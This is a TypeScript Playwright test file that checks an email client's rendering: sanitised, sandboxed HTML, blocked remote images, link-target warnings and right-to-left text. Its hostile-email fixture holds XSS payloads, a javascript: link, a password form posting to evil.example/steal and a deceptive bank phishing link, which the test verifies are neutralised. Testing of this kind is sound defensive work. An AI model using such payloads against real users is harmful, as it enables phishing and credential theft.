/**
 * Email rendering in a real browser: HTML is sanitised and shown in a sandboxed frame with remote
 * content blocked until the agent allows it (then fetched through main, never by the page), links
 * show and confirm their real target, right-to-left text reads right, quotes and signatures fold,
 * malformed messages carry a badge.
 */
import { readFileSync } from 'node:fs';
import https from 'node:https';
import { join } from 'node:path';
import type { EmailRecord } from '../../src/shared/domain';
import { ensureLab, lab } from '../lab/env';
import { expect, shot, test, type Page } from './fixtures';

test.beforeAll(() => ensureLab(['mail'])); // creates the lab TLS certificate the image server uses
// The image server below listens on loopback, which main refuses for remote images by default.
test.use({ hostOptions: { remoteImage: { allowPrivateNetworks: true } } });

// A 2x2 PNG (red/green/blue/white).
const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAIAAAACCAIAAAD91JpzAAAAFklEQVR4nGP4z8DAwMDAxMDAwMDAAAANHQEDasKb6QAAAABJRU5ErkJggg==', 'base64');

async function imageServer(): Promise<{ url: string; hits: string[]; close(): Promise<void> }> {
  const hits: string[] = [];
  const server = https.createServer(
    { cert: readFileSync(join(lab.dir, 'tls', 'cert.pem')), key: readFileSync(join(lab.dir, 'tls', 'key.pem')) },
    (req, res) => {
      hits.push(req.url ?? '');
      if (req.url?.startsWith('/logo.png')) {
        res.writeHead(200, { 'content-type': 'image/png', 'content-length': PNG.length });
        res.end(PNG);
      } else {
        res.writeHead(200, { 'content-type': 'text/html' });
        res.end('<script>alert(1)</script>');
      }
    },
  );
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', () => r()));
  const port = (server.address() as { port: number }).port;
  // main (this test process) trusts the lab certificate for this test only.
  https.globalAgent.options.ca = readFileSync(lab.tls.caFile);
  return { url: `https://127.0.0.1:${port}`, hits, close: () => new Promise((r) => server.close(() => r())) };
}

function mail(id: string, over: Partial<EmailRecord>): EmailRecord {
  return {
    type: 'email', sourceKey: `render:${id}`, sourceId: 'demo', folder: 'INBOX', messageId: `<${id}@render.example>`, references: [],
    subject: `Render ${id}`, from: { name: 'Nadia Haddad', address: `nadia.${id}@render.example` }, to: [{ address: 'support@acme.example' }], cc: [],
    date: Date.now() - 60_000, direction: 'inbound', text: '', attachments: [], flags: [], warnings: [], ...over,
  };
}

async function demoLoaded(app: Page) {
  await expect(app.locator('.queue-list [role=option]').first()).toBeVisible();
  await expect(app.locator('[data-progress]')).toHaveCount(0);
}

/** Moves through a queue with the keyboard until the highlighted row shows `text`, then opens it. */
async function openByKeyboard(app: Page, text: string, queues = ['i', 'x', 's', 'u']) {
  for (const q of queues) {
    await app.keyboard.press('g');
    await app.keyboard.press(q);
    await app.keyboard.press('Home');
    const rows = app.locator('.queue-list [role=option]');
    if (!(await rows.count())) continue;
    for (let i = 0; i < 60; i++) {
      const sel = app.locator('.queue-list [role=option][aria-selected=true]');
      if ((await sel.count()) && (await sel.innerText()).includes(text)) {
        await app.keyboard.press('Enter');
        await expect(app.locator('.timeline .thread[data-active=true]')).toBeVisible();
        return;
      }
      const before = await sel.getAttribute('data-thread').catch(() => null);
      await app.keyboard.press('j');
      const after = await app.locator('.queue-list [role=option][aria-selected=true]').getAttribute('data-thread').catch(() => null);
      if (before && before === after) break; // end of this queue
    }
  }
  throw new Error(`no conversation showing "${text}"`);
}

test('the demo HTML email: sanitised, sandboxed, styles kept, remote images blocked until allowed (through main)', async ({ app, host }) => {
  await demoLoaded(app);
  // Olivia writes again (the same demo message, now): her conversation is back in All open.
  const demo = JSON.parse(readFileSync(join(__dirname, '../../resources/demo/workspace.json'), 'utf8')) as { records: EmailRecord[] };
  const olivia = demo.records.find((r) => r.sourceKey === 'demo:email:olivia-grant-blurry-logo.1')!;
  host.emit('sources:records', { sourceId: 'demo', records: [{ ...olivia, date: Date.now() - 60_000 }], cursor: null, hasMore: false });
  await openByKeyboard(app, 'Olivia Grant');
  const item = app.locator('.timeline [data-item="demo:email:olivia-grant-blurry-logo.1"]');
  await expect(item).toBeVisible();
  const frameEl = item.locator('iframe[data-testid=mail-frame]');
  await expect(frameEl).toHaveAttribute('sandbox', 'allow-same-origin');
  const srcdoc = (await frameEl.getAttribute('srcdoc')) ?? '';
  expect(srcdoc).toContain('http-equiv="Content-Security-Policy"');
  expect(srcdoc).not.toMatch(/src="https?:/);
  expect(srcdoc).not.toMatch(/\sstyle=/);

  const frame = item.frameLocator('iframe[data-testid=mail-frame]');
  await expect(frame.locator('body')).toContainText('Our logo looks fuzzy');
  await expect(frame.locator('img[data-sb-remote]')).toHaveCount(2);
  expect(await frame.locator('img[src]').count()).toBe(0);
  // The mail's inline styles survive the CSP through the CSSOM (teal rule left of the signature).
  const border = await frame.locator('td', { hasText: 'Practice Manager' }).evaluate((td) => getComputedStyle(td).borderLeftColor);
  expect(border).toBe('rgb(43, 179, 163)');

  const bar = item.getByTestId('remote-bar');
  await expect(bar).toContainText('Remote content blocked (2)');
  expect(host.calls.filter((c) => c.channel === 'mail:remote-image')).toHaveLength(0);
  await shot(app, 'email-01-demo-html-blocked');

  // Load for this message: main is asked (the page never fetches); these .example hosts do not exist.
  await item.getByTestId('load-remote').click();
  await expect(item.locator('.remote-bar')).toContainText('2 image(s) could not be loaded');
  const asked = host.calls.filter((c) => c.channel === 'mail:remote-image').map((c) => (c.payload as { url: string }).url);
  expect(asked.sort()).toEqual(['https://cdn.brightpathdental.example/email/signature-logo.png', 'https://t.mailstats.example/o/7f3a9c41.gif']);
});

test('hostile HTML, link targets, always-allow a sender, RTL, folded quote and signature, parse warnings', async ({ app, host }) => {
  const img = await imageServer();
  try {
    await demoLoaded(app);
    const html = `<html><head><style>p.note { color: rgb(200, 0, 0) } body { background: url(${img.url}/bg.png) }</style></head><body>
      <p class="note">Hello team, see our logo:</p>
      <img src="${img.url}/logo.png" width="64" height="64" alt="logo" onerror="alert(1)">
      <script>window.parent.pwned = true</script>
      <form action="https://evil.example/steal"><input name="pw"><button>Go</button></form>
      <iframe src="https://evil.example/"></iframe>
      <p><a href="https://mybank.evil.example/login" onclick="alert(1)">www.mybank.example</a> and <a href="javascript:alert(1)">js link</a></p>
      <p dir="rtl" id="ar">مرحبا، أحتاج إلى مساعدة في الفاتورة</p>
      <div class="gmail_signature" data-smartmail="gmail_signature">Omar Haddad · Haddad Trading · +971 4 555 0100</div>
      <blockquote type="cite">Earlier: old quoted text</blockquote>
    </body></html>`;
    const htmlMail = mail('hostile', { html, text: 'Hello team', subject: 'Logo and bank link', warnings: ['Unknown charset "x-user-defined-9"; decoded as UTF-8'], attachments: [{ partId: '2', filename: 'invoice.pdf', contentType: 'application/pdf', size: 48_213 }] });
    const rtl = mail('rtl', {
      subject: 'فاتورة مارس',
      from: { name: 'ليلى', address: 'layla@render.example' },
      date: Date.now() - 30_000,
      text: 'مرحبا، الفاتورة غير صحيحة.\nشكرا\n\n-- \nليلى\nشركة النور\n\nOn Mon, Support wrote:\n> Your invoice is attached.\n> Regards',
    });
    host.emit('sources:records', { sourceId: 'demo', records: [htmlMail, rtl], cursor: null, hasMore: false });

    // --- hostile HTML
    await openByKeyboard(app, 'Logo and bank link');
    const item = app.locator('.timeline [data-item="render:hostile"]');
    const frame = item.frameLocator('iframe[data-testid=mail-frame]');
    await expect(frame.locator('p.note')).toHaveCSS('color', 'rgb(200, 0, 0)');
    expect(await frame.locator('script, form, input, iframe, [onerror], [onclick]').count()).toBe(0);
    expect(await app.evaluate(() => (window as unknown as { pwned?: boolean }).pwned)).toBeUndefined();
    await expect(frame.locator('a', { hasText: 'js link' })).not.toHaveAttribute('href', /.+/);
    await expect(item.getByTestId('remote-bar')).toContainText('Remote content blocked (2)');
    await expect(item.getByTestId('parse-warning')).toBeVisible();
    await item.getByTestId('parse-warning').click();
    await expect(item.getByTestId('parse-warnings')).toContainText('x-user-defined-9');
    await expect(item.locator('.attachment[data-part="2"]')).toContainText('invoice.pdf');
    await expect(item.locator('.attachment[data-part="2"]')).toBeDisabled(); // no server copy for this source

    // The quote and the signature are folded inside the frame until asked for.
    await expect(frame.locator('blockquote')).toBeHidden();
    await expect(frame.locator('.gmail_signature')).toBeHidden();
    await expect(item.locator('.quote-toggle')).toHaveText('··· show quoted text and signature');
    await item.locator('.quote-toggle').click();
    await expect(frame.locator('blockquote')).toBeVisible();
    await expect(frame.locator('.gmail_signature')).toContainText('Haddad Trading');
    // RTL paragraph renders right to left.
    await expect(frame.locator('#ar')).toHaveCSS('direction', 'rtl');

    // Links: hover shows the real target (and that the text lies); a click asks first, then goes through main.
    const link = frame.locator('a', { hasText: 'www.mybank.example' });
    await link.hover();
    await expect(item.getByTestId('link-status')).toContainText('https://mybank.evil.example/login');
    await expect(item.getByTestId('link-status')).toContainText('different address');
    await link.click();
    const confirm = item.getByTestId('link-confirm');
    await expect(confirm).toContainText('https://mybank.evil.example/login');
    await expect(confirm).toContainText('Careful');
    expect(host.opened).toEqual([]);
    await shot(app, 'email-02-link-confirm');
    await confirm.getByTestId('open-link').click();
    await expect.poll(() => host.opened).toEqual(['https://mybank.evil.example/login']);

    // Always for this sender: the image comes through main as a data: URL; the page never fetched it.
    await item.getByTestId('allow-sender').click();
    await expect(frame.locator('img[alt=logo]')).toHaveAttribute('src', /^data:image\/png;base64,/);
    await expect(item.getByTestId('remote-bar')).toHaveCount(0);
    expect(img.hits).toEqual(['/logo.png']); // one fetch, by main; the CSS background was stripped
    await shot(app, 'email-03-images-allowed');

    // --- RTL plain text: folded signature and quote, right-to-left body.
    await openByKeyboard(app, 'فاتورة مارس');
    const rtlItem = app.locator('.timeline [data-item="render:rtl"]');
    const body = rtlItem.locator('[data-part=body]');
    await expect(body).toHaveAttribute('dir', 'auto');
    await expect(body).toHaveCSS('direction', 'rtl');
    await expect(body).toContainText('الفاتورة غير صحيحة');
    await expect(rtlItem.locator('[data-part=signature]')).toHaveCount(0);
    await expect(rtlItem.locator('[data-part=quoted]')).toHaveCount(0);
    await rtlItem.getByTestId('toggle-quoted').click();
    await expect(rtlItem.locator('[data-part=quoted]')).toContainText('Your invoice is attached.');
    await rtlItem.getByTestId('toggle-signature').click();
    await expect(rtlItem.locator('[data-part=signature]')).toContainText('شركة النور');
    await shot(app, 'email-04-rtl-text');
  } finally {
    await img.close();
  }
});
